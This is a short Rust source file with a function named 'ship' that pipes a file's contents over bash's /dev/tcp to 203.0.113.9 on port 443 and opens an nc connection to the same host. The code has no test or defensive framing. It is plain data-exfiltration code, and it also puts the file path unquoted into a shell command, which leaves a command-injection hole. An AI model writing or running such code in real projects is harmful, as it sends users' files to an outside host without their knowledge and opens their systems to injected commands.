// Data sent through the shell's /dev/tcp and through nc.
use std::process::Command;

pub fn ship(path: &str) {
    let _ = Command::new("bash")
        .arg("-c")
        .arg(format!("cat {path} > /dev/tcp/203.0.113.9/443"))
        .status();
    let _ = Command::new("nc").args(["203.0.113.9", "443"]).status();
}
